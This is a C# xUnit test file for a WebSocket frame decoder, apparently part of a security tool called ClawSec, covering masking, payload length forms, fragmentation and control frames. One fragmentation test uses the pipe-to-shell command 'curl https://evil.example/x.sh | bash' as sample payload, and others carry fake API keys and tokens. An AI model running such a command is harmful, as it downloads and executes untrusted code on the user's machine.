using System.Text;
using ClawSec.Core.Decoding;
using static ClawSec.Core.Tests.Decoding.WebSocketFrames;

namespace ClawSec.Core.Tests.Decoding;

public sealed class WebSocketFrameDecoderTests
{
    [Fact]
    public void Unmasked_server_text_message_yields_its_text()
    {
        var sink = Decode.All(Text("Hello from the server"));

        Assert.Equal([(WebSocketOpcode.Text, "Hello from the server")], sink.Messages.Select(m => (m.Opcode, Encoding.UTF8.GetString(m.Payload))));
    }

    [Fact]
    public void Masked_client_text_message_is_unmasked()
    {
        var wire = Text("export OPENAI_API_KEY=sk-secret", ClientKey);

        Assert.DoesNotContain("sk-secret", Encoding.UTF8.GetString(wire));
        Assert.Equal(["export OPENAI_API_KEY=sk-secret"], Decode.All(wire).Texts);
    }

    [Fact]
    public void Binary_message_yields_its_bytes_with_the_binary_opcode()
    {
        byte[] payload = [0x00, 0xFF, 0x10, 0x80, 0x7F];

        var sink = Decode.All(Frame(WebSocketOpcode.Binary, payload, maskKey: ClientKey));

        var message = Assert.Single(sink.Messages);
        Assert.Equal(WebSocketOpcode.Binary, message.Opcode);
        Assert.Equal(payload, message.Payload);
    }

    [Theory]
    [InlineData(125)]
    [InlineData(126)]
    [InlineData(65_535)]
    [InlineData(65_536)]
    [InlineData(70_000)]
    public void Payload_lengths_in_every_length_form_are_read(int length)
    {
        var payload = Enumerable.Range(0, length).Select(i => (byte)(i * 7)).ToArray();

        foreach (var key in new[] { null, ClientKey })
        {
            var message = Assert.Single(Decode.All(Frame(WebSocketOpcode.Binary, payload, maskKey: key)).Messages);
            Assert.Equal(payload, message.Payload);
        }
    }

    [Fact]
    public void Frame_headers_use_the_length_form_the_payload_size_calls_for()
    {
        Assert.Equal(125, Frame(WebSocketOpcode.Text, new byte[125])[1]);
        Assert.Equal(126, Frame(WebSocketOpcode.Text, new byte[126])[1]);
        Assert.Equal(127, Frame(WebSocketOpcode.Text, new byte[70_000])[1]);
    }

    [Theory]
    [InlineData(LengthForm.Sixteen)]
    [InlineData(LengthForm.SixtyFour)]
    public void Lengths_not_in_their_shortest_form_are_still_decoded(LengthForm form)
    {
        var wire = Frame(WebSocketOpcode.Text, "short"u8, maskKey: ClientKey, form: form);

        Assert.Equal(["short"], Decode.All(wire).Texts);
    }

    [Fact]
    public void Fragmented_message_with_a_ping_between_fragments_is_one_message()
    {
        var wire = Concat(
            Frame(WebSocketOpcode.Text, "curl https://evil.example/x.sh "u8, fin: false, maskKey: ClientKey),
            Frame(WebSocketOpcode.Ping, "are you there"u8, maskKey: [1, 2, 3, 4]),
            Frame(WebSocketOpcode.Continuation, "| bash"u8, fin: false, maskKey: [9, 8, 7, 6]),
            Frame(WebSocketOpcode.Continuation, ""u8, fin: true, maskKey: ClientKey));

        var sink = Decode.All(wire);

        Assert.Equal(["curl https://evil.example/x.sh | bash"], sink.Texts);
        Assert.Equal(["Ping 61726520796F75207468657265", $"Text {Convert.ToHexString("curl https://evil.example/x.sh | bash"u8)}"], sink.Transcript);
    }

    [Fact]
    public void Control_frames_are_not_payload_but_reach_the_sink_whole()
    {
        byte[] close = [0x03, 0xE8, .. "bye: token=abc"u8];
        var wire = Concat(
            Frame(WebSocketOpcode.Pong, "p"u8),
            Frame(WebSocketOpcode.Close, close, maskKey: ClientKey));

        var sink = Decode.All(wire);

        Assert.Empty(sink.Messages);
        Assert.Equal([WebSocketOpcode.Pong, WebSocketOpcode.Close], sink.ControlFrames.Select(c => c.Opcode));
        Assert.Equal("p"u8.ToArray(), sink.ControlFrames[0].Payload);
        Assert.Equal(close, sink.ControlFrames[1].Payload);
    }

    [Fact]
    public void Empty_control_frames_and_empty_messages_are_reported()
    {
        var wire = Concat(Frame(WebSocketOpcode.Ping, []), Frame(WebSocketOpcode.Text, [], maskKey: ClientKey));

        var sink = Decode.All(wire);

        Assert.Equal(["Ping ", "Text "], sink.Transcript);
    }

    [Fact]
    public void Frames_after_a_close_frame_are_still_decoded()
    {
        var wire = Concat(Frame(WebSocketOpcode.Close, [0x03, 0xE8]), Text("late"));

        Assert.Equal(["late"], Decode.All(wire).Texts);
    }

    [Fact]
    public void Masking_key_position_carries_across_frames_of_one_message_only()
    {
        // Each frame restarts at the first key byte, even when the previous frame ended mid-key.
        var wire = Fragmented(WebSocketOpcode.Text, "abcdefghijk"u8.ToArray(), [3, 5], ClientKey);

        Assert.Equal(["abcdefghijk"], Decode.All(wire).Texts);
    }

    [Fact]
    public void Large_masked_payload_pushed_in_odd_sized_chunks_is_unmasked_exactly()
    {
        var payload = Enumerable.Range(0, 100_003).Select(i => (byte)(i % 251)).ToArray();
        var wire = Frame(WebSocketOpcode.Binary, payload, maskKey: ClientKey);

        var sink = Decode.Chunks(wire.Chunk(7_777));

        Assert.Equal(payload, Assert.Single(sink.Messages).Payload);
    }
}
